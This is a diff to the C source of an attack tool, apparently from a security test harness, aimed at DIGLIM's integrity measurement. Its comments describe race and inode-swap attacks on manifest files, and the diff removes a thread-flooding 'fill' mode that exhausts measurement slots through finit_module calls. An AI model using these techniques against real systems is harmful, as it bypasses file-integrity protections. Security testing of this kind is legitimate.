@@ -4,14 +4,12 @@
  *
  *   manifest_attack open N LOADER ARGUMENT...   opens /run/diglim/manifest.N for write as soon as it is there, changes it when it is written
  *   manifest_attack swap N LOADER ARGUMENT...   puts another file with the same inode number in its place before it is measured
- *   manifest_attack fill FILE LOADER ARGUMENT... uses up the room in which DIGLIM's programs tell IMA what to measure; FILE: known, empty
  *
- * The first two run with real-time priority on the loader's processor, so the loader goes no further when there is something to do.
+ * It runs with real-time priority on the loader's processor, so the loader goes no further when there is something to do.
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <poll.h>
-#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
@@ -25,7 +23,6 @@
 #include <unistd.h>
 
 #define FOLDER "/run/diglim"
-#define THREADS 8400 /* more than DIGLIM_STEERED_TASKS (bpf/abi.h) */
 
 static char name[64];
 static char path[128];
@@ -146,38 +143,6 @@ static int attack_swap(char **arguments)
   return umount2(FOLDER, MNT_DETACH);
 }
 
-static pthread_mutex_t one_by_one = PTHREAD_MUTEX_INITIALIZER;
-static int module = -1;
-
-static void *occupy(void *unused)
-{
-  pthread_mutex_lock(&one_by_one);
-  syscall(SYS_finit_module, module, "", 0); /* known, so asked for and answered; but nothing can be read */
-  pthread_mutex_unlock(&one_by_one);
-  for (;;)
-    pause();
-  return unused;
-}
-
-static int attack_fill(const char *file, char **arguments)
-{
-  pthread_attr_t small;
-  pthread_t thread;
-  int threads = 0;
-
-  module = open(file, O_RDONLY | O_CLOEXEC);
-  pthread_attr_init(&small);
-  pthread_attr_setstacksize(&small, 16384);
-  while (threads < THREADS && pthread_create(&thread, &small, occupy, NULL) == 0)
-    threads++;
-  pthread_mutex_lock(&one_by_one); /* the last ones may not have begun */
-  pthread_mutex_unlock(&one_by_one);
-  sleep(1);
-  if (threads == THREADS)
-    printf("tried\n");
-  return finish(start(arguments));
-}
-
 int main(int argc, char **argv)
 {
   if (argc < 4)
@@ -188,7 +153,5 @@ int main(int argc, char **argv)
   snprintf(path, sizeof(path), FOLDER "/%s", name);
   if (strcmp(argv[1], "open") == 0)
     return attack_open(argv + 3);
-  if (strcmp(argv[1], "swap") == 0)
-    return attack_swap(argv + 3);
-  return attack_fill(argv[2], argv + 3);
+  return attack_swap(argv + 3);
 }
